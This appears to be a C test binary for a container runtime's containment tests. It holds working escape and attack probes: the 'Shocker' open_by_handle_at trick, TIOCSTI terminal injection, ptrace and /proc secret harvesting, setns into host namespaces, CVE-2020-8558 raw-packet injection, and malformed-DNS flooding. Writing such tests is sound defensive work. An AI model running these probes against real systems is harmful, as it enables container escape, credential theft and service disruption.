/*
 * The attacker inside a container, for the containment tests: each command tries one
 * way out and prints what happened, one line, "ok" or the errno's name, so that a test
 * can tell a refusal from a success. Built static by the tests (gcc -static) and put in
 * a test image; never part of tocker itself.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <arpa/inet.h>
#include <linux/bpf.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/klog.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef CLONE_NEWTIME
#define CLONE_NEWTIME 0x00000080
#endif

static int report(long result) {
  if (result >= 0) {
    puts("ok");
    return 0;
  }
  puts(strerrorname_np(errno) ? strerrorname_np(errno) : "unknown");
  return 1;
}

static int try_bpf(void) {
  union bpf_attr attr;
  memset(&attr, 0, sizeof attr);
  attr.map_type = BPF_MAP_TYPE_ARRAY;
  attr.key_size = 4;
  attr.value_size = 4;
  attr.max_entries = 1;
  return report(syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr));
}

/* Host-wide: every task on CPU 0, which only the host's root may watch. */
static int try_perf(void) {
  struct perf_event_attr attr;
  memset(&attr, 0, sizeof attr);
  attr.type = PERF_TYPE_SOFTWARE;
  attr.size = sizeof attr;
  attr.config = PERF_COUNT_SW_CPU_CLOCK;
  return report(syscall(SYS_perf_event_open, &attr, -1, 0, -1, 0));
}

static int try_keyctl(void) {
  return report(syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0));
}

/* The session keyring's serial: a container's must not be the host's. */
static int session_keyring(void) {
  long id = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
  if (id < 0) return report(id);
  printf("%ld\n", id);
  return 0;
}

static int try_syslog(void) {
  char buffer[256];
  return report(klogctl(3 /* SYSLOG_ACTION_READ_ALL */, buffer, sizeof buffer));
}

static int try_unshare(const char *which) {
  int flags = strcmp(which, "user") == 0    ? CLONE_NEWUSER
              : strcmp(which, "mount") == 0 ? CLONE_NEWNS
              : strcmp(which, "net") == 0   ? CLONE_NEWNET
              : strcmp(which, "time") == 0  ? CLONE_NEWTIME
                                            : -1;
  if (flags < 0) return puts("unknown namespace"), 2;
  return report(unshare(flags));
}

/* "Shocker": the handle of inode 2 (an ext4 root) opened through any descriptor. */
static int try_open_by_handle(void) {
  struct {
    struct file_handle handle;
    unsigned char bytes[8];
  } root = {.handle = {.handle_bytes = 8, .handle_type = 1}};
  unsigned int inode = 2, generation = 0;
  memcpy(root.bytes, &inode, 4);
  memcpy(root.bytes + 4, &generation, 4);
  for (int fd = 0; fd < 3; fd++) {
    int opened = open_by_handle_at(fd, &root.handle, O_RDONLY);
    if (opened >= 0) return puts("ok"), 0;
  }
  return report(-1);
}

static int try_write(const char *path) {
  int fd = open(path, O_WRONLY);
  if (fd >= 0) close(fd);
  return report(fd);
}

static int try_read(const char *path) {
  char buffer[4096];
  int fd = open(path, O_RDONLY);
  if (fd < 0) return report(fd);
  ssize_t length = read(fd, buffer, sizeof buffer - 1);
  close(fd);
  if (length < 0) return report(length);
  buffer[length] = '\0';
  printf("read %zd bytes\n", length);
  fputs(buffer, stdout);
  return 0;
}

static int try_mount(const char *source, const char *target, const char *type, const char *data) {
  mkdir(target, 0755);
  return report(mount(source, target, type, 0, data));
}

/* A fresh proc mounted at `target`: refused, or how many processes it shows (a host view
 * would show the host's hundreds; the container's own PID namespace shows its own few). */
static int proc_pids(const char *target) {
  mkdir(target, 0755);
  if (mount("proc", target, "proc", 0, NULL) < 0) return report(-1);
  DIR *dir = opendir(target);
  if (dir == NULL) return report(-1);
  int count = 0;
  struct dirent *entry;
  while ((entry = readdir(dir)) != NULL) count += entry->d_name[0] >= '1' && entry->d_name[0] <= '9';
  closedir(dir);
  printf("pids %d\n", count);
  return 0;
}

static int try_remount_rw(const char *target) {
  return report(mount(NULL, target, NULL, MS_REMOUNT | MS_BIND, NULL));
}

static int try_umount(const char *target) { return report(umount2(target, MNT_DETACH)); }

static int try_mknod_open(const char *type, const char *numbers) {
  unsigned int major, minor;
  if (sscanf(numbers, "%u:%u", &major, &minor) != 2) return puts("bad device"), 2;
  mode_t mode = (type[0] == 'b' ? S_IFBLK : S_IFCHR) | 0600;
  unlink("/tmp/probe-node");
  if (mknod("/tmp/probe-node", mode, makedev(major, minor)) < 0) {
    printf("mknod ");
    return report(-1);
  }
  printf("mknod ok, open ");
  return try_write("/tmp/probe-node");
}

/* Types `text` into whatever terminal each of stdin, stdout and stderr is. */
static int try_tiocsti(const char *text) {
  int injected = 0;
  for (int fd = 0; fd < 3; fd++) {
    for (const char *c = text; *c; c++) {
      if (ioctl(fd, TIOCSTI, c) < 0) break;
      if (c[1] == '\0') injected = 1;
    }
  }
  if (injected) return puts("ok"), 0;
  return report(-1);
}

/* Anything of the host's, in what a process shows to others in its container: its Node
 * (the agent, the CLI), their flags and environment, and the test's secret. */
static const char *host_traces[] = {"node", "--token", "TOCKER_", NULL};

static int leaks_host(const char *text, size_t length, const char *secret) {
  for (size_t i = 0; i < length; i++) {
    for (const char **trace = host_traces; *trace; trace++)
      if (strncmp(text + i, *trace, strlen(*trace)) == 0) return 1;
    if (secret && strncmp(text + i, secret, strlen(secret)) == 0) return 1;
  }
  return 0;
}

static ssize_t read_file(const char *path, char *buffer, size_t size) {
  int fd = open(path, O_RDONLY);
  if (fd < 0) return -1;
  ssize_t length = read(fd, buffer, size);
  close(fd);
  return length;
}

/*
 * Watches the container for new processes (exec'd ones, an init) for `seconds`, or until
 * /tmp/stop-watching appears, and goes after each one: ptrace, its memory, environment,
 * command line, executable and descriptors, and the namespaces behind them. Prints "saw
 * PID COMM" for each new process (so a test knows it watched), and "GAINED ..." for
 * anything that worked.
 */
static int watch(int seconds, const char *secret) {
  static char seen[1 << 22];
  time_t until = time(NULL) + seconds;
  pid_t self = getpid();
  int gained = 0, watched = 0;
  while (time(NULL) < until && access("/tmp/stop-watching", F_OK) != 0) {
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    while (proc && (entry = readdir(proc)) != NULL) {
      pid_t pid = atoi(entry->d_name);
      if (pid <= 1 || pid == self || pid >= (pid_t)sizeof seen || seen[pid]) continue;
      seen[pid] = 1;
      watched++;
      char path[64], buffer[65536], comm[64] = "?";
      snprintf(path, sizeof path, "/proc/%d/comm", pid);
      ssize_t length = read_file(path, comm, sizeof comm - 1);
      if (length > 0) comm[length - 1] = '\0';
      printf("saw %d %s\n", pid, comm);
      if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        /* Tracing a program of the container's own is its business; tracing the shim's
         * child before its execve (a host process) would be a way out. What it is gets
         * judged while it is stopped: a stopped task can neither exec nor exit under us, so
         * its name and executable agree with each other. One that exits first had nothing
         * to give. */
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        int status;
        if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
          snprintf(path, sizeof path, "/proc/%d/comm", pid);
          length = read_file(path, comm, sizeof comm - 1);
          if (length > 0) comm[length - 1] = '\0';
          snprintf(path, sizeof path, "/proc/%d/exe", pid);
          length = readlink(path, buffer, sizeof buffer - 1);
          buffer[length > 0 ? length : 0] = '\0';
          bool shim = length > 0 ? strstr(buffer, "tocker") != NULL : strcmp(comm, "tocker-shim") == 0;
          if (shim) {
            printf("GAINED ptrace %d %s (%s)\n", pid, comm, buffer);
            gained++;
          } else {
            printf("traced %d %s, the container's own %s\n", pid, comm, buffer);
          }
          ptrace(PTRACE_DETACH, pid, 0, 0);
        } else {
          printf("traced %d %s until it ended\n", pid, comm);
        }
      }
      const char *files[] = {"environ", "cmdline", "mem", NULL};
      for (const char **file = files; *file; file++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, *file);
        length = read_file(path, buffer, sizeof buffer);
        if (length > 0 && leaks_host(buffer, (size_t)length, secret)) {
          printf("GAINED %s of %d %s\n", *file, pid, comm);
          gained++;
        }
      }
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      length = readlink(path, buffer, sizeof buffer - 1);
      if (length > 0) {
        buffer[length] = '\0';
        if (leaks_host(buffer, (size_t)length, secret) || strstr(buffer, "tocker") != NULL) {
          printf("GAINED exe %s of %d\n", buffer, pid);
          gained++;
        }
      }
      for (int fd = 0; fd < 64; fd++) {
        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
        int opened = open(path, O_RDONLY | O_NONBLOCK);
        if (opened < 0) continue;
        length = readlink(path, buffer, sizeof buffer - 1);
        buffer[length > 0 ? length : 0] = '\0';
        /* Its own stdio is the container's; anything else is a descriptor that leaked. */
        if (fd > 2) {
          printf("GAINED fd %d (%s) of %d %s\n", fd, buffer, pid, comm);
          gained++;
        }
        close(opened);
      }
      snprintf(path, sizeof path, "/proc/%d/ns/mnt", pid);
      int ns = open(path, O_RDONLY);
      if (ns >= 0) {
        struct stat theirs, ours;
        fstat(ns, &theirs);
        stat("/proc/self/ns/mnt", &ours);
        if (theirs.st_ino != ours.st_ino && setns(ns, 0) == 0) {
          printf("GAINED setns into the mount namespace of %d %s\n", pid, comm);
          gained++;
        }
        close(ns);
      }
    }
    if (proc) closedir(proc);
    fflush(stdout);
  }
  printf("watched %d, gained %d\n", watched, gained);
  return gained > 0;
}

/*
 * Raw frames (CVE-2020-8558): an IPv4 packet built by hand and handed to eth0 addressed to
 * the gateway's MAC, whatever its destination address. A host that routes 127.0.0.0/8 from
 * its bridges (route_localnet) would deliver one for 127.0.0.1 to its loopback services.
 */

static uint16_t checksum(const void *data, size_t length, uint32_t sum) {
  const uint8_t *bytes = data;
  for (size_t i = 0; i + 1 < length; i += 2) sum += (uint32_t)(bytes[i] << 8 | bytes[i + 1]);
  if (length & 1) sum += (uint32_t)bytes[length - 1] << 8;
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return htons((uint16_t)~sum);
}

/* The default route's gateway (network order), from /proc/net/route. */
static int default_gateway(struct in_addr *gateway) {
  FILE *routes = fopen("/proc/net/route", "r");
  if (!routes) return -1;
  char line[256], device[IFNAMSIZ + 1];
  unsigned int destination, via, flags;
  int found = 0;
  while (!found && fgets(line, sizeof line, routes))
    if (sscanf(line, "%16s %x %x %x", device, &destination, &via, &flags) == 4 && destination == 0 &&
        (flags & 0x2 /* RTF_GATEWAY */))
      gateway->s_addr = via, found = 1;
  fclose(routes);
  if (!found) errno = ENETUNREACH;
  return found ? 0 : -1;
}

/* Its MAC from the ARP table once complete, asking for it with a datagram to the discard port. */
static int gateway_mac(struct in_addr gateway, struct in_addr *self, unsigned char mac[6]) {
  int udp = socket(AF_INET, SOCK_DGRAM, 0);
  if (udp < 0) return -1;
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr = gateway};
  socklen_t length = sizeof to;
  struct sockaddr_in local;
  if (connect(udp, (struct sockaddr *)&to, sizeof to) < 0 ||
      getsockname(udp, (struct sockaddr *)&local, &length) < 0) {
    close(udp);
    return -1;
  }
  *self = local.sin_addr;
  char wanted[INET_ADDRSTRLEN];
  inet_ntop(AF_INET, &gateway, wanted, sizeof wanted);
  for (int attempt = 0; attempt < 50; attempt++) {
    if (attempt % 10 == 0) send(udp, "", 0, 0);
    FILE *arp = fopen("/proc/net/arp", "r");
    char line[256], address[64], hw[64];
    unsigned int type, flags;
    while (arp && fgets(line, sizeof line, arp)) {
      if (sscanf(line, "%63s 0x%x 0x%x %63s", address, &type, &flags, hw) == 4 &&
          strcmp(address, wanted) == 0 && (flags & 0x2 /* ATF_COM */) &&
          sscanf(hw, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3],
                 &mac[4], &mac[5]) == 6) {
        fclose(arp);
        close(udp);
        return 0;
      }
    }
    if (arp) fclose(arp);
    usleep(100 * 1000);
  }
  close(udp);
  errno = EHOSTUNREACH;
  return -1;
}

/* A packet socket on eth0 (the kernel adds the Ethernet header) and where to send: the gateway's MAC. */
static int packet_socket(struct in_addr *self, struct sockaddr_ll *to) {
  struct in_addr gateway;
  memset(to, 0, sizeof *to);
  to->sll_family = AF_PACKET;
  to->sll_protocol = htons(ETH_P_IP);
  to->sll_ifindex = (int)if_nametoindex("eth0");
  to->sll_halen = 6;
  if (to->sll_ifindex == 0 || default_gateway(&gateway) < 0 ||
      gateway_mac(gateway, self, to->sll_addr) < 0)
    return -1;
  int fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
  if (fd < 0) return -1;
  if (bind(fd, (struct sockaddr *)to, sizeof *to) < 0) {
    close(fd);
    return -1;
  }
  return fd;
}

static void ip_header(struct iphdr *ip, struct in_addr from, struct in_addr to, int protocol,
                      size_t length) {
  memset(ip, 0, sizeof *ip);
  ip->version = 4;
  ip->ihl = 5;
  ip->tot_len = htons((uint16_t)length);
  ip->id = htons((uint16_t)getpid());
  ip->ttl = 64;
  ip->protocol = (uint8_t)protocol;
  ip->saddr = from.s_addr;
  ip->daddr = to.s_addr;
  ip->check = checksum(ip, sizeof *ip, 0);
}

/* Sends `count` copies of `packet`; "sent N" or the errno's name. */
static int send_packets(int fd, const void *packet, size_t length, const struct sockaddr_ll *to,
                        int count) {
  int sent = 0;
  for (int i = 0; i < count; i++) {
    if (sendto(fd, packet, length, 0, (const struct sockaddr *)to, sizeof *to) < 0)
      return report(-1);
    sent++;
    usleep(50 * 1000);
  }
  printf("sent %d", sent);
  return 0;
}

/* A UDP datagram carrying `payload` to `address`:`port` (checksum 0: none, which IPv4 allows). */
static int raw_udp(const char *address, const char *port, const char *payload) {
  struct in_addr self, target;
  struct sockaddr_ll to;
  if (inet_pton(AF_INET, address, &target) != 1) return puts("bad address"), 2;
  int fd = packet_socket(&self, &to);
  if (fd < 0) return report(-1);
  unsigned char packet[1500];
  size_t size = strlen(payload);
  if (size > sizeof packet - 28) return puts("payload too long"), 2;
  struct udphdr *udp = (struct udphdr *)(packet + 20);
  udp->source = htons(40000 + getpid() % 20000);
  udp->dest = htons((uint16_t)atoi(port));
  udp->len = htons((uint16_t)(8 + size));
  udp->check = 0;
  memcpy(packet + 28, payload, size);
  ip_header((struct iphdr *)packet, self, target, IPPROTO_UDP, 28 + size);
  int result = send_packets(fd, packet, 28 + size, &to, 5);
  if (result == 0) putchar('\n');
  close(fd);
  return result;
}

/*
 * A TCP SYN to `address`:`port`, then up to two seconds watching eth0 for the SYN-ACK: a
 * listener that answered was reached. Its kernel's RST after that is the container's own.
 */
static int raw_syn(const char *address, const char *port) {
  struct in_addr self, target;
  struct sockaddr_ll to;
  if (inet_pton(AF_INET, address, &target) != 1) return puts("bad address"), 2;
  int fd = packet_socket(&self, &to);
  if (fd < 0) return report(-1);
  unsigned char packet[40];
  struct tcphdr *tcp = (struct tcphdr *)(packet + 20);
  memset(tcp, 0, sizeof *tcp);
  uint16_t source = htons(40000 + getpid() % 20000);
  tcp->source = source;
  tcp->dest = htons((uint16_t)atoi(port));
  tcp->seq = htonl(0x8558);
  tcp->doff = 5;
  tcp->syn = 1;
  tcp->window = htons(64240);
  struct {
    uint32_t from, to;
    uint8_t zero, protocol;
    uint16_t length;
  } pseudo = {self.s_addr, target.s_addr, 0, IPPROTO_TCP, htons(20)};
  uint32_t sum = 0;
  for (size_t i = 0; i < sizeof pseudo; i += 2)
    sum += (uint32_t)(((uint8_t *)&pseudo)[i] << 8 | ((uint8_t *)&pseudo)[i + 1]);
  tcp->check = checksum(tcp, 20, sum);
  ip_header((struct iphdr *)packet, self, target, IPPROTO_TCP, sizeof packet);
  if (send_packets(fd, packet, sizeof packet, &to, 3) != 0) return 1;
  time_t until = time(NULL) + 2;
  int answered = 0;
  while (!answered && time(NULL) <= until) {
    struct pollfd ready = {.fd = fd, .events = POLLIN};
    if (poll(&ready, 1, 200) <= 0) continue;
    unsigned char reply[1500];
    ssize_t length = recv(fd, reply, sizeof reply, 0);
    const struct iphdr *ip = (const struct iphdr *)reply;
    if (length < 40 || ip->protocol != IPPROTO_TCP || ip->saddr != target.s_addr) continue;
    const struct tcphdr *answer = (const struct tcphdr *)(reply + ip->ihl * 4);
    if ((size_t)length >= ip->ihl * 4u + 20 && answer->dest == source && answer->syn && answer->ack)
      answered = 1;
  }
  puts(answered ? ", syn-ack" : ", no answer");
  close(fd);
  return 0;
}

/* One UDP datagram to `server`:53. */
static void send_datagram(int fd, const struct sockaddr_in *server, const void *bytes, size_t length) {
  ssize_t ignored = sendto(fd, bytes, length, 0, (const struct sockaddr *)server, sizeof *server);
  (void)ignored;
}

/*
 * Abuses a network's DNS server at `address`: malformed queries over UDP (too short, a
 * response, a name pointing at itself, an over-long label, a name running past the end,
 * random bytes), over TCP a frame promising more than it sends, and `connections` TCP
 * connections held open. Then asks a proper query for `name` and prints "answered" (with
 * the number of addresses) or "no answer": a server that survived and still serves.
 */
static int dns_abuse(const char *address, const char *name, int connections) {
  struct sockaddr_in server = {.sin_family = AF_INET, .sin_port = htons(53)};
  if (inet_pton(AF_INET, address, &server.sin_addr) != 1) return puts("bad address"), 2;
  int udp = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (udp < 0) return report(-1);
  const unsigned char short_one[] = {0x12};
  const unsigned char response[] = {0, 1, 0x81, 0x80, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 1};
  const unsigned char loop[] = {0, 2, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0xc0, 12, 0, 1, 0, 1};
  unsigned char long_label[12 + 1 + 100 + 5] = {0, 3, 1, 0, 0, 1};
  long_label[12] = 100;
  const unsigned char past_end[] = {0, 4, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 40, 'a', 'b'};
  for (int round = 0; round < 20; round++) {
    send_datagram(udp, &server, short_one, sizeof short_one);
    send_datagram(udp, &server, response, sizeof response);
    send_datagram(udp, &server, loop, sizeof loop);
    send_datagram(udp, &server, long_label, sizeof long_label);
    send_datagram(udp, &server, past_end, sizeof past_end);
    unsigned char noise[512];
    for (size_t i = 0; i < sizeof noise; i++) noise[i] = (unsigned char)rand();
    send_datagram(udp, &server, noise, (size_t)(rand() % (int)sizeof noise) + 1);
  }
  int held = 0;
  for (int i = 0; i < connections; i++) {
    int tcp = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (tcp < 0 || connect(tcp, (const struct sockaddr *)&server, sizeof server) < 0) continue;
    held++;
    if (i == 0) { /* a frame promising 65535 bytes, of which 3 come */
      const unsigned char partial[] = {0xff, 0xff, 1, 2, 3};
      ssize_t ignored = write(tcp, partial, sizeof partial);
      (void)ignored;
    }
  }
  /* A proper query for `name`, as a resolver would send it. */
  unsigned char query[300] = {0x4b, 0x1d, 1, 0, 0, 1};
  size_t at = 12;
  for (const char *label = name; *label;) {
    const char *dot = strchr(label, '.');
    size_t length = dot ? (size_t)(dot - label) : strlen(label);
    if (length == 0 || length > 63 || at + length + 6 > sizeof query) return puts("bad name"), 2;
    query[at++] = (unsigned char)length;
    memcpy(query + at, label, length);
    at += length;
    label += length + (dot ? 1 : 0);
  }
  const unsigned char tail[] = {0, 0, 1, 0, 1};
  memcpy(query + at, tail, sizeof tail);
  at += sizeof tail;
  struct timeval wait = {.tv_sec = 2};
  setsockopt(udp, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof wait);
  for (int attempt = 0; attempt < 3; attempt++) {
    send_datagram(udp, &server, query, at);
    unsigned char answer[512];
    for (;;) {
      ssize_t got = recv(udp, answer, sizeof answer, 0);
      if (got < 0) break;
      if (got >= 12 && answer[0] == 0x4b && answer[1] == 0x1d) {
        printf("answered %d, %d connections held\n", answer[7], held);
        return 0;
      }
    }
  }
  printf("no answer, %d connections held\n", held);
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  const char *what = argc > 1 ? argv[1] : "";
  const char *a = argc > 2 ? argv[2] : "";
  const char *b = argc > 3 ? argv[3] : "";
  if (!strcmp(what, "bpf")) return try_bpf();
  if (!strcmp(what, "perf")) return try_perf();
  if (!strcmp(what, "keyctl")) return try_keyctl();
  if (!strcmp(what, "session-keyring")) return session_keyring();
  if (!strcmp(what, "syslog")) return try_syslog();
  if (!strcmp(what, "unshare")) return try_unshare(a);
  if (!strcmp(what, "open-by-handle")) return try_open_by_handle();
  if (!strcmp(what, "write")) return try_write(a);
  if (!strcmp(what, "read")) return try_read(a);
  if (!strcmp(what, "mount")) return try_mount(a, b, argc > 4 ? argv[4] : NULL, argc > 5 ? argv[5] : NULL);
  if (!strcmp(what, "remount-rw")) return try_remount_rw(a);
  if (!strcmp(what, "proc-pids")) return proc_pids(a);
  if (!strcmp(what, "umount")) return try_umount(a);
  if (!strcmp(what, "mknod-open")) return try_mknod_open(a, b);
  if (!strcmp(what, "tiocsti")) return try_tiocsti(a);
  if (!strcmp(what, "raw-udp")) return raw_udp(a, b, argc > 4 ? argv[4] : "");
  if (!strcmp(what, "raw-syn")) return raw_syn(a, b);
  if (!strcmp(what, "dns-abuse")) return dns_abuse(a, b, argc > 4 ? atoi(argv[4]) : 0);
  if (!strcmp(what, "watch")) return watch(atoi(a), argc > 3 ? b : NULL);
  fprintf(stderr, "usage: attack bpf|perf|keyctl|session-keyring|syslog|unshare NS|...\n");
  return 2;
}
